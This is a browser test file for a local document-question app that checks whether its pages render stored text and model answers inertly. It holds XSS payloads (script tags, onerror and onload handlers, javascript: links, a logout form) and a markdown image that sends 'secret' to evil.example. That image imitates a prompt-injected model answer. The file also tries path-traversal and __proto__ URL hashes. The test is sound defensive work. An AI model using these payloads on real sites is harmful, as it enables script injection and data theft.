import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { chatModel, createFakeOllama, embedModel, type FakeOllama } from '../fakes/ollama.ts';
import { removeFolder, startService, temporaryFolder, type Service } from '../service.ts';
import { hasBrowser, openBrowser, openPage } from './browser.ts';

const IMAGE = '<img src="https://evil.example/x.png" onerror="window.harmed = 1">';
const TITLE = `<b>Birds</b>${IMAGE}<script>window.harmed = 2</script>`;
const TEXT = `Pelicans ${IMAGE} roost here. <script>window.harmed = 3</script> [a link](javascript:window.harmed=4)
<iframe src="https://evil.example/"></iframe> <a href="https://evil.example/" style="position:fixed">pelicans</a>`;
/** What a model might say that was talked into it. */
const ANSWER = `Pelicans roost here [1]. ${IMAGE}<script>window.harmed = 5</script>

![picture](https://evil.example/?q=secret) ![data](data:image/svg+xml;base64,PHN2Zy8+)
[click](javascript:window.harmed=6) [your bank](https://evil.example/login) [file](file:///etc/passwd) [self](/logout)
<a href="https://evil.example/" onclick="window.harmed=7">x</a> <form action="/logout"><button>go</button></form>
<svg onload="window.harmed=8"></svg> <style>body { display: none }</style>

[1]: https://evil.example/definition
\`[1]\` and https://plain.example/page`;

describe.skipIf(!hasBrowser)('what documents and models say is text (needs /usr/bin/chromium)', () => {
  let folder: string;
  let ollama: FakeOllama;
  let service: Service;
  let browser: Browser;
  let page: Page;
  let troubles: string[];
  let id: string;

  beforeAll(async () => {
    folder = await temporaryFolder();
    ollama = await createFakeOllama({ installed: [embedModel(), chatModel()], reply: () => ANSWER });
    service = await startService(folder, {
      OLLAMA_HOST: ollama.url,
      LIMNER_EMBED_MODEL: 'nomic-embed-text',
      LIMNER_CHAT_MODEL: 'qwen3:4b',
    });
    const sent = await service.post('/api/documents', { text: TEXT, title: TITLE, collection: 'odd' });
    ({ id } = z.looseObject({ id: z.string() }).parse(await sent.json()));
    await service.quiet(1);
    browser = await openBrowser();
    ({ page, troubles } = await openPage(browser, service.url));
  });

  afterAll(async () => {
    await browser.close();
    await service.stop();
    await ollama.stop();
    await removeFolder(folder);
  });

  /** Nothing ran, nothing was fetched from elsewhere or refused by the policy, and no element came from a text. */
  async function expectHarmless(): Promise<void> {
    expect(troubles).toEqual([]);
    expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
    expect(
      await page.locator('#app :is(script, img, svg, object, style, form[action="/logout"], b)').count(),
    ).toBe(0);
    expect(await page.locator('#app iframe:not([src^="/documents/"])').count()).toBe(0);
  }

  it('in an answer, its quotes and its sources', async () => {
    await page.goto(`${service.url}/#/ask`);
    await page.getByLabel('Ask your documents').fill(`Where do pelicans roost? ${IMAGE}`);
    await page.keyboard.press('Enter');
    const answer = page.locator('.answer');
    await page.locator('.actions').waitFor();
    await answer.locator('code').waitFor();
    for (const said of [IMAGE, '<script>window.harmed = 5</script>', '<style>'])
      expect(await answer.textContent()).toContain(said);
    expect(await page.getByRole('heading', { level: 2 }).textContent()).toContain(IMAGE);
    // A link says where it leads; what is no address of the web is none.
    const links = await answer
      .locator('a:not(.chip)')
      .evaluateAll((all) => all.map((link) => [link.textContent, link.getAttribute('href')]));
    expect(links.length).toBeGreaterThan(2);
    for (const [text, href] of links) {
      expect(text).toBe(href);
      expect(href).toMatch(/^https:/);
    }
    expect(await answer.locator('.chip').count()).toBe(2);
    expect(await answer.locator('code').textContent()).toBe('[1]');
    await page.locator('.answer .chip').first().hover();
    expect(await page.getByRole('tooltip').textContent()).toContain(TITLE);
    await expectHarmless();
    await page.locator('.answer .chip').first().click();
    await page.frameLocator('.viewer iframe').locator('mark').waitFor();
    expect(await page.locator('.viewer header').textContent()).toContain(TITLE);
    await expectHarmless();
  });

  it('in what is kept of a conversation', async () => {
    await page.goto(`${service.url}/${new URL(page.url()).hash.replace(/\?.*/, '')}`);
    await page.reload();
    await page.locator('.answer .chip').first().waitFor();
    await page.getByRole('complementary').getByText('Where do pelicans roost?').waitFor();
    await expectHarmless();
  });

  it('in the ledger, and on the page of a document', async () => {
    await page.goto(`${service.url}/#/documents`);
    await expect.poll(() => page.locator('.row-title').allTextContents()).toEqual([TITLE]);
    for (const view of ['document', 'text', 'chunks', 'pictures']) {
      await page.goto(`${service.url}/#/documents/${id}?view=${view}`);
      await expect.poll(() => page.getByRole('heading', { level: 1 }).textContent()).toBe(TITLE);
      if (view === 'text' || view === 'chunks')
        await page.getByText('<script>window.harmed = 3</script>', { exact: false }).first().waitFor();
      await expectHarmless();
    }
  });

  it('in passages that are found', async () => {
    await page.goto(`${service.url}/#/search?q=${encodeURIComponent(`pelicans ${IMAGE}`)}`);
    await page.locator('.hits').getByText('roost').first().waitFor();
    expect(await page.locator('.hits').textContent()).toContain(TITLE);
    await expectHarmless();
  });

  it('in addresses that somebody made up', async () => {
    for (const hash of [
      '#/documents/%3Cimg%20src=x%3E',
      '#/ask/../../etc',
      '#/%E0%A4%A',
      '#/search?q=%00&type=__proto__',
      '#//evil.example',
    ]) {
      await page.goto(`${service.url}/${hash}`);
      await page.locator('main h1').first().waitFor({ state: 'attached' });
      expect(await page.evaluate(() => 'harmed' in window)).toBe(false);
    }
    expect(troubles.filter((line) => !line.includes('status of 4'))).toEqual([]);
  });
});
